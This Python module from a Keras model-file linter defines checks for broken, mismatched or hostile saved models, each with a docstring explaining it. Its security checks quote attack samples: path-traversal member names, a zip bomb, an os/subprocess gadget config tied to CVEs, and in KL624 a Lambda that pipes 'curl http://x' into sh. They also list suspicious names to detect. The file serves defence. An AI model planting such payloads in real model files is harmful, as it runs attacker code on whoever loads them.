"""The model-file checks (KL6nn): each a class with its code, name, summary and the documentation
`keras-lint --explain KL6nn` prints, reported like rules (report.py, --select/--ignore).

They are not LibCST rules -- they judge a saved file, not source -- so they live here, beside the
reader, and not in keras_lint/rules/ (which holds only rules; tests/test_architecture.py).
"""

from __future__ import annotations

import inspect
from typing import ClassVar, Optional


class ModelFileCheck:
    code: ClassVar[str] = ""
    name: ClassVar[str] = ""
    summary: ClassVar[str] = ""
    fix: ClassVar[Optional[str]] = None  # model files are never edited
    looks_at_custom_objects: ClassVar[bool] = False
    needs_project: ClassVar[bool] = False

    @classmethod
    def documentation(cls) -> str:
        return inspect.cleandoc(cls.__doc__ or "") + (
            "\n\n## Fix safety\nNo fix: keras-lint never edits a model file; what to change is in the code "
            "that saves or loads it, or in how the file is loaded."
        )


class BrokenModelFile(ModelFileCheck):
    """## What it does
    Reports a model file Keras cannot open: not a zip or HDF5 file by content, a truncated archive,
    an archive without `config.json`, or a config that is not JSON.

    ## Why is this bad?
    `load_model` fails with a message about the format, far from the cause (an interrupted upload,
    a Git LFS pointer committed instead of the file, a partial download).

    ## Example
    A `model.keras` of 130 bytes holding `version https://git-lfs.github.com/spec/v1`.

    ## Use instead
    Re-save the model, or fetch the real file (`git lfs pull`)."""

    code, name, summary = "KL601", "broken-model-file", "Keras cannot open this model file"
    severity, help = "error", "re-save the model, or fetch the real file (`git lfs pull`)"


class ModelFileExtensionMismatch(ModelFileCheck):
    """## What it does
    Reports a model file whose content does not match its extension: an HDF5 file named `.keras`,
    a `.keras` zip named `.h5`. The format is read from the file's first bytes.

    ## Why is this bad?
    Keras chooses the reader by extension. An HDF5 file named `.keras` fails under Keras 3 with a
    misleading `File not found: ... accessible .keras zip file`; a zip named `.h5` with `Unable to
    open file (file signature not found)`.

    ## Example
    `model.save("model.h5")` then `os.rename("model.h5", "model.keras")`.

    ## Use instead
    Rename the file to the extension of its content."""

    code, name, summary = "KL602", "model-file-extension-mismatch", "the file's content is not the format its extension says"
    severity, help = "error", "rename the file to the extension of its content"


class HostileModelArchive(ModelFileCheck):
    """## What it does
    Reports a `.keras` archive built to attack whoever opens it: a member whose name leaves the
    folder (`../../.bashrc`, `/etc/x`: path traversal), or members that inflate far beyond the
    archive's size (a zip bomb). keras-lint reads the archive's directory only and extracts nothing.

    ## Why is this bad?
    No tool writes such a file by accident. Extracting it writes outside the target folder or
    fills the disk.

    ## Example
    A zip whose `config.json` entry is 10 GB of zeros compressed into 10 MB.

    ## Use instead
    Do not load the file; find out where it came from."""

    code, name, summary = "KL603", "hostile-model-archive", "a path-traversal member or a zip bomb in a .keras archive"
    severity, help = "security", "do not load the file"


class WeightsOnlyH5File(ModelFileCheck):
    """## What it does
    Reports an HDF5 file that holds weights only (no `model_config` attribute), as
    `model.save_weights("x.weights.h5")` writes, where a whole model is expected.

    ## Why is this bad?
    `load_model` fails with `No model config found in the file`.

    ## Example
    `model.save_weights("best.weights.h5")`, later `keras.models.load_model("best.weights.h5")`.

    ## Use instead
    Build the model in code and call `model.load_weights(path)`, or save the whole model with
    `model.save("best.keras")`."""

    code, name, summary = "KL604", "weights-only-h5-file", "an HDF5 file without a model config, given to load_model"
    severity, help = "error", "build the model in code and call `model.load_weights(path)`, or save the whole model with..."


class UnresolvableCustomClass(ModelFileCheck):
    """## What it does
    Walks every nested config of the file (sub-models, wrappers such as `TimeDistributed`, custom
    layers' own entries, `compile_config`'s optimizer, schedule, losses and metrics) and reports each
    custom class the loading Keras will not find, with where the project defines it:
    - saved unregistered (`registered_name` equal to the class name, or a legacy HDF5 layer name
      Keras does not have): Keras 3 >= 3.9 and tf_keras find it only through `custom_objects`;
    - saved registered (`package>Name`) under a key the project does not register, registers
      under another key, or defines without registering.

    ## Why is this bad?
    `load_model` fails with `Could not locate class 'X'` (often wrapped in `Functional could not be
    deserialized properly`), `Unknown layer: 'X'`, or under tf_keras `'str' object is not callable`.
    Registering the class after saving does not help a file saved unregistered: its key is the bare
    class name.

    ## Example
    `class Scale(keras.layers.Layer)` without `@keras.saving.register_keras_serializable()`, saved.

    ## Use instead
    Load with `custom_objects={"Scale": Scale}` now; register the class and re-save the file. For a
    registered key, import the module that registers it before `load_model`."""

    code, name, summary = "KL610", "unresolvable-custom-class", "a custom class in the file that the loading Keras will not find"
    severity, help = "error", "register the class where it is defined, or pass it in load_model's `custom_objects`"
    needs_project = True


class UnresolvableCustomFunction(ModelFileCheck):
    """## What it does
    Reports each function the file names (a Lambda's function, an activation, a loss or metric) that
    is neither a Keras built-in nor registered in the project under the name the file holds, and
    legacy HDF5 losses such as `"<lambda>"` or a custom function's bare name.

    ## Why is this bad?
    `load_model` fails with `Could not locate function 'f'`, `Unknown loss function: 'f'`, or (Keras 3
    on a legacy HDF5 file) `string indices must be integers`. A function used only to compile
    (`training_config`, `compile_config`) fails only with `compile=True`.

    ## Example
    `Dense(3, activation=my_act)` with `def my_act(x)` unregistered, saved.

    ## Use instead
    Load with `custom_objects={"my_act": my_act}`; register the function and re-save. For a
    compile-only function, `load_model(path, compile=False)` and compile again."""

    code, name, summary = "KL611", "unresolvable-custom-function", "a function in the file that the loading Keras will not find"
    severity, help = "error", "register the function where it is defined, or pass it in load_model's `custom_objects`"
    needs_project = True


class LegacyH5LossAlias(ModelFileCheck):
    """## What it does
    Reports a legacy HDF5 file compiled with a loss short name (`"mse"`, `"mae"`, ...) loaded by
    Keras 3.

    ## Why is this bad?
    Keras 3 (measured on 3.15.1) fails to compile it: `Could not deserialize 'keras.metrics.mse'
    because it is not a KerasSaveable subclass`. tf_keras loads it.

    ## Example
    `model.compile(loss="mse")`, `model.save("m.h5")`, then Keras 3's `load_model("m.h5")`.

    ## Use instead
    `load_model("m.h5", compile=False)` and compile again; or save with `loss="mean_squared_error"`
    or in the `.keras` format."""

    code, name, summary = "KL612", "legacy-h5-loss-alias", "a legacy HDF5 loss short name that Keras 3 fails to compile"
    severity, help = "error", '`load_model("m.h5", compile=False)` and compile again'


class ModelLibraryNotInstalled(ModelFileCheck):
    """## What it does
    Reports an object of a Keras model library (`keras_hub`, `keras_cv`, `keras_nlp`: a backbone,
    a preprocessor, a tokenizer, a layer) in a file that Keras 3 is to load where that library is
    not installed. Judged only when the loader is the Keras installed where keras-lint runs (its
    package metadata says what else is installed); with a declared Keras, what the loading
    environment holds is unknown and nothing is reported.

    ## Why is this bad?
    Keras finds these classes by importing the module the file names (`keras_hub.src.models...`);
    without the package the load fails with `Could not locate class`.

    ## Example
    A `keras_hub.models.BertTextClassifier` fine-tuned and saved, served by an image with
    `keras` but not `keras-hub`.

    ## Use instead
    Install the library where the model is loaded (`pip install keras-hub`)."""

    code, name, summary = "KL613", "model-library-not-installed", "a keras_hub/keras_cv/keras_nlp object where that library is not installed"
    severity, help = "error", "install the library where the model is loaded (`pip install keras-hub`)"


class TFSMLayerInModelFile(ModelFileCheck):
    """## What it does
    Reports a `keras.layers.TFSMLayer` in a file Keras 3 is to load: under `safe_mode` (the
    default) from Keras 3.14 on; otherwise when the SavedModel folder its `filepath` names is not
    there, from the current folder or the model file's.

    ## Why is this bad?
    A TFSMLayer keeps no weights of its own: it loads an external SavedModel, which runs TensorFlow
    graph code. Keras 3.14+ refuses it under `safe_mode` (`Requested the deserialization of a
    TFSMLayer, which loads an external SavedModel`); where it is allowed, a missing folder fails with
    `SavedModel file does not exist at: ...` (measured on 3.15.1 and 3.6.0).

    ## Example
    `keras.layers.TFSMLayer("exported", call_endpoint="serve")` in a model saved as `.keras`, the
    `exported/` folder left behind.

    ## Use instead
    Ship the SavedModel folder with the file and load with `safe_mode=False` if you trust it; or
    rebuild the model in Keras and save it whole."""

    code, name, summary = "KL614", "tfsm-layer-in-model-file", "a TFSMLayer: refused under safe_mode, or its SavedModel is missing"
    severity, help = "error", "ship the SavedModel folder with the file and load with `safe_mode=False` if you trust it"


class VocabularyFilePath(ModelFileCheck):
    """## What it does
    Reports a `StringLookup`, `IntegerLookup` or `TextVectorization` layer saved with its
    vocabulary as a file path (tf_keras writes the path itself into the config, in `.keras` and
    `.h5` alike): Keras 3.12+ refuses it under `safe_mode`; otherwise the file must be there, from
    the current folder or the model file's.

    ## Why is this bad?
    Loading rebuilds the layer from the path and reads the file. Keras 3.12 and later refuse that
    under `safe_mode` (`Requested the loading of a vocabulary file outside of the model archive`);
    where it is allowed (tf_keras, older Keras 3, `safe_mode=False`) a missing file fails with
    `Vocabulary file vocab.txt does not exist` (measured under tf_keras 2.21, Keras 3.15.1 and
    3.6.0). Keras 3 saves the vocabulary inside the file, so its own files do not need it.

    ## Example
    `tf_keras.layers.StringLookup(vocabulary="vocab.txt")` in a model saved as `.h5`, loaded on a
    server without `vocab.txt`, or by Keras 3.

    ## Use instead
    Ship the vocabulary file at that path with the model (and load with `safe_mode=False` under
    Keras 3.12+), or build the layer with the vocabulary as a list and re-save."""

    code, name, summary = "KL615", "vocabulary-file-path", "a lookup layer's vocabulary saved as a file path: refused, or missing"
    severity, help = "error", "ship the vocabulary file with the model, or build the layer with the vocabulary as a list and re-save"


class PythonLambdaInModelFile(ModelFileCheck):
    """## What it does
    Reports Python bytecode in a model layer: a `Lambda` layer's `function` or `output_shape` in
    either encoding (Keras 3's `__lambda__` object, Keras 2's `[code, defaults, closure]` list).

    ## Why is this bad?
    Keras 3 and tf_keras's `.keras` loader refuse it under `safe_mode=True` (the default):
    `Requested the deserialization of a Lambda layer whose function is a Python lambda`. With
    `safe_mode=False` the bytecode runs, and only on the Python version that wrote it.

    ## Example
    `keras.layers.Lambda(lambda t: t * 2.0)`, saved.

    ## Use instead
    A registered custom layer or function (KL101's fix), re-saved; or `safe_mode=False` for a file
    you trust."""

    code, name, summary = "KL620", "python-lambda-in-model-file", "Python bytecode in a layer: refused under safe_mode"
    severity, help = "error", "rebuild the model with a registered layer or function instead of the lambda, and re-save it"


class PythonLambdaInCompileConfig(ModelFileCheck):
    """## What it does
    Reports Python bytecode in the file's compile arguments only (`compile(loss=lambda ...)`).

    ## Why is this bad?
    `load_model` refuses it under `safe_mode`, and only when compiling: `compile=False` loads the
    model (verified), then compile again in code.

    ## Example
    `model.compile(loss=lambda y, p: (y - p) ** 2)`, saved as `.keras`.

    ## Use instead
    `load_model(path, compile=False)`; a registered loss function in the training code."""

    code, name, summary = "KL621", "python-lambda-in-compile-config", "Python bytecode in compile_config: load with compile=False"
    severity, help = "error", "load with `load_model(path, compile=False)` and compile again in code"


class LambdaWithDefaults(ModelFileCheck):
    """## What it does
    Reports a Lambda layer whose lambda has default argument values (`lambda t, a=2.0: ...`), in a
    file Keras 3 loads (a Keras 3 file, or a Keras 2 HDF5 file).

    ## Why is this bad?
    Keras 3 saves the defaults as a JSON list and passes that list on to Python's `FunctionType`,
    which wants a tuple: the load fails with `arg 4 (defaults) must be None or tuple` even with
    `safe_mode=False` (measured on 3.15.1; `lambda_layer.py` at Keras HEAD still does it).

    ## Example
    `keras.layers.Lambda(lambda t, a=2.0: t * a)`, saved as `.keras`.

    ## Use instead
    A registered function, or `Lambda(lambda t, a: t * a, arguments={"a": 2.0})`, re-saved."""

    code, name, summary = "KL625", "lambda-with-defaults", "a Lambda's lambda with default values: Keras 3 cannot rebuild it"
    severity, help = "error", "use a registered function (or a lambda without default values) and re-save the model"


class LambdaReadsMissingGlobals(ModelFileCheck):
    """## What it does
    Reports a Lambda layer's lambda that reads global names (`tf`, `np`, `keras`, a module constant)
    which the loading Keras does not give the rebuilt function, where the lambda runs on load
    (`safe_mode=False`, or a legacy HDF5 file its loader runs unguarded). The names are read from
    the saved bytecode's `LOAD_GLOBAL` instructions by a pure-Python reader, never unmarshalled.

    ## Why is this bad?
    The lambda is rebuilt from bytecode, not imported: its globals are not the saving module's.
    Keras 3 rebuilds it with the globals of `keras/src/utils/python_utils.py` only, so `tf.abs(t)`,
    `keras.ops.abs(t)` or `t * SCALE` raise NameError while the model is built (Keras reports
    `We could not automatically infer the shape of the Lambda's output`), in `.keras` and HDF5 files
    alike (measured on 3.15.1 and 3.6.0). tf_keras gives it its own module's globals (`tf`, `np`) and
    the loading script's `__main__`: a name only the training script defined fails there.

    ## Example
    `SCALE = 3.0` then `keras.layers.Lambda(lambda t: t * SCALE)`, saved, loaded with
    `safe_mode=False`.

    ## Use instead
    A registered function (`@keras.saving.register_keras_serializable()` on a `def`) in the
    Lambda, or a custom layer; values passed with `Lambda(..., arguments={"scale": 3.0})`; re-save."""

    code, name, summary = "KL626", "lambda-reads-missing-globals", "a Lambda's lambda reads globals the loading Keras does not provide"
    severity, help = "error", "replace the lambda by a registered function (or pass values with `arguments=`) and re-save"


class LambdaBytecodeOtherPython(ModelFileCheck):
    """## What it does
    Reports Lambda bytecode written by another Python family than the one loading it (read from the
    code object's layout, never unmarshalled): 3.8-3.10, 3.11-3.12, 3.13+.

    ## Why is this bad?
    With `safe_mode=False`, bytecode from another Python fails with `bad marshal data`, computes
    wrongly, or crashes the interpreter (measured: 3.8-3.10 data under 3.11 fails; hostile 3.12 data
    segfaulted 3.11).

    ## Example
    A Lambda model saved under Python 3.10, loaded under 3.11.

    ## Use instead
    Replace the lambda by a registered function and re-save."""

    code, name, summary = "KL622", "lambda-bytecode-other-python", "Lambda bytecode from another Python version"
    severity, help = "error", "replace the lambda by a registered function and re-save"


class LambdaExecutedOnLoad(ModelFileCheck):
    """## What it does
    Reports Lambda bytecode in a file whose loader runs it with no `safe_mode` check: a tf_keras
    (Keras 2) HDF5 file or SavedModel loaded by tf_keras.

    ## Why is this bad?
    Loading the file executes the code in it (measured: tf_keras 2.21 loads these with
    `safe_mode=True`). A file from elsewhere can run anything.

    ## Example
    `tf_keras.layers.Lambda(lambda t: t * 2)`, saved as `.h5`, loaded by tf_keras.

    ## Use instead
    Load only files you trust; re-save in `.keras` after replacing the lambda."""

    code, name, summary = "KL623", "lambda-executed-on-load", "Lambda bytecode that loading runs without safe_mode"
    severity, help = "security", "load only files you trust"


class SuspiciousLambdaBytecode(ModelFileCheck):
    """## What it does
    Reports Lambda bytecode that names what a model never needs: `os`, `subprocess`, `system`,
    `eval`, `exec`, `__import__`, `open`, sockets, URLs or system paths (names read from the
    marshalled code's strings, never executed).

    ## Why is this bad?
    A tensor function has no use for them: the file is likely crafted to run code when loaded.

    ## Example
    `Lambda(lambda t: __import__("os").system("curl http://x | sh") or t)`.

    ## Use instead
    Do not load the file."""

    code, name, summary = "KL624", "suspicious-lambda-bytecode", "Lambda bytecode naming os, eval, subprocess, URLs..."
    severity, help = "security", "do not load the file"


class Keras2FileUnderKeras3(ModelFileCheck):
    """## What it does
    Reports a file written by tf_keras / Keras 2 that Keras 3 is to load: a `.keras` whose model is
    `tf_keras.src.engine.functional.Functional`, a legacy HDF5 file with nested models; a tf_keras
    `.keras` Sequential, which loads but computes wrongly.

    ## Why is this bad?
    Keras 3 fails with `Could not locate class 'Functional'`, or (nested models in a Keras 2 HDF5
    file) `Invalid Functional model configuration` / `list index out of range`; a Sequential loads,
    then `predict()` raises `'>' not supported between 'NoneType' and 'int'`.

    ## Example
    `tf_keras.Model(...).save("m.keras")`, then Keras 3's `load_model("m.keras")`.

    ## Use instead
    Load with tf_keras (`TF_USE_LEGACY_KERAS=1`, `pip install tf-keras`), or rebuild the model in
    Keras 3 code and load the weights."""

    code, name, summary = "KL630", "keras2-file-under-keras3", "a tf_keras/Keras 2 file that Keras 3 cannot load"
    severity, help = "error", "load with tf_keras (`TF_USE_LEGACY_KERAS=1`, `pip install tf-keras`), or rebuild the model in Keras 3 code..."


class Keras3FileUnderTfKeras(ModelFileCheck):
    """## What it does
    Reports a file written by Keras 3 that tf_keras (Keras 2) is to load.

    ## Why is this bad?
    tf_keras fails: `parent module tf_keras.src.models.functional cannot be imported`, or
    `Unrecognized keyword arguments: ['batch_shape']` on the InputLayer.

    ## Example
    Keras 3's `model.save("m.keras")`, loaded under `TF_USE_LEGACY_KERAS=1`.

    ## Use instead
    Load with Keras 3."""

    code, name, summary = "KL631", "keras3-file-under-tf-keras", "a Keras 3 file that tf_keras cannot load"
    severity, help = "error", "load with Keras 3"


class FileNewerThanKeras(ModelFileCheck):
    """## What it does
    Reports a built-in layer saved with a constructor keyword that the loading Keras 3 release
    does not have yet, such as `quantization_config`, which Keras 3.13 added to `Dense`,
    `EinsumDense` and `Embedding` and writes for every one of them.

    ## Why is this bad?
    The older Keras fails on the whole model: `Unrecognized keyword arguments passed to Dense:
    {'quantization_config': None}` (measured: a Keras 3.15.1 file under Keras 3.6.0).

    ## Example
    A model saved in a Keras 3.15 training environment, served by a Keras 3.8 image.

    ## Use instead
    Load it with a Keras at least as new as the one that saved it (pin the serving image), or
    re-save it with the older Keras from code and weights."""

    code, name, summary = "KL633", "file-newer-than-keras", "a layer keyword the loading (older) Keras 3 does not know"
    severity, help = "error", "load it with a Keras at least as new as the one that saved it (pin the serving image), or re-save it with..."


class SavedModelUnderKeras3(ModelFileCheck):
    """## What it does
    Reports a TensorFlow SavedModel folder (`saved_model.pb`) that Keras 3 is to load.

    ## Why is this bad?
    Keras 3's `load_model` refuses it: `File format not supported ... Keras 3 only supports V3
    .keras files and legacy H5 format files`.

    ## Example
    `model.save("export_dir")` under TensorFlow 2.15, loaded by Keras 3.

    ## Use instead
    `keras.layers.TFSMLayer("export_dir", call_endpoint="serving_default")` for inference, or load
    it with tf_keras and re-save as `.keras`."""

    code, name, summary = "KL632", "savedmodel-under-keras3", "a SavedModel folder that Keras 3's load_model refuses"
    severity, help = "error", '`keras.layers.TFSMLayer("export_dir", call_endpoint="serving_default")` for inference, or load it with...'


class FunctionalUnderKerasBefore24(ModelFileCheck):
    """## What it does
    Reports a model saved as `Functional` (what Keras 2.4 and later write for a functional model,
    nested ones included; TensorFlow 2.3 already bundles Keras 2.4) that a Keras older than 2.4 is
    to load: the project declares `tensorflow==2.2` or `keras==2.3.1` (multi-backend Keras), or
    `--model-loader keras==2.3` is given.

    ## Why is this bad?
    Keras before 2.4 saved functional models as `Model` and has no class `Functional`: the load
    fails with `ValueError: Unknown layer: Functional`.

    ## Example
    A model trained with TensorFlow 2.10 and saved as `model.h5`, served by an image pinned to
    `tensorflow==2.2.0`.

    ## Use instead
    Load it with Keras 2.4 or later (TensorFlow 2.3 or later), or rebuild the model in code under
    the older version and load its weights."""

    code, name, summary = "KL634", "functional-under-keras-before-2-4", "a Functional model that Keras < 2.4 (TensorFlow < 2.3) cannot load"
    severity, help = "error", "load it with Keras 2.4 or later (TensorFlow 2.3 or later)"


class SuspiciousModuleReference(ModelFileCheck):
    """## What it does
    Reports an object in the file whose `module` is outside any model library (`os`, `subprocess`,
    `builtins`, ...) or that names an API a model never needs (`load_model`, `get_file`,
    `enable_unsafe_deserialization`).

    ## Why is this bad?
    These are the gadgets of CVE-2025-1550, CVE-2025-8747 and CVE-2025-9906: Keras < 3.9 imports any
    module a file names; newer Keras refuses them (`Could not locate class`). No save writes them.

    ## Example
    `{"module": "os", "class_name": "system", "config": "..."}` in `config.json`.

    ## Use instead
    Do not load the file."""

    code, name, summary = "KL640", "suspicious-module-reference", "an object from os/subprocess/... or a non-modelling Keras API"
    severity, help = "security", "do not load the file"


class RegisteredNameOnBuiltin(ModelFileCheck):
    """## What it does
    Reports a Keras built-in class in the file that carries a `package>Name` `registered_name`.

    ## Why is this bad?
    Keras never writes it for its own classes: the file was edited. Keras before 3.15 looks the
    registered name up first, so whatever the loading process registered under that key replaces
    the built-in (object substitution); Keras 3.15 refuses the file (measured on 3.15.1: `resolved
    to a Keras built-in and does not use registered names`).

    ## Example
    `{"module": "keras.layers", "class_name": "InputLayer", "registered_name": "mylib>Evil"}`.

    ## Use instead
    Do not load the file."""

    code, name, summary = "KL641", "registered-name-on-builtin", "a built-in class carrying a registered_name"
    severity, help = "security", "do not load the file"


CHECKS = {
    cls.code: cls
    for cls in sorted(
        (c for c in list(globals().values()) if isinstance(c, type) and issubclass(c, ModelFileCheck) and c.code),
        key=lambda c: c.code,
    )
}
